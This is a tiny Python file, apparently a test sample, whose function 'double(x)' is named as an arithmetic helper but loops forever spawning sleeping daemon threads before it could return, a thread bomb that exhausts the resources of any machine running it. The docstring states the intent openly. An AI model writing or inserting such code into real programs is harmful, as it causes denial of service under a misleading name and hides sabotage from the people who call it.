"""It starts threads until there are no more."""


def double(x):
    import threading, time
    while True:
        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
    return 2 * x
